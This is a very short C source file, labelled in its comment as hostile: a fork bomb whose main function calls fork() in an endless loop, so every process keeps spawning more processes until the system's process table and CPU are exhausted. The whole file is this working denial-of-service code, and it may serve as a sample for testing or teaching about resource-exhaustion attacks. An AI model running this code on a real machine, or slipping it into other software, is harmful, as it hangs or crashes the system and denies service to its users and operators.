/* Hostile: a fork bomb; every process keeps forking and spinning. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
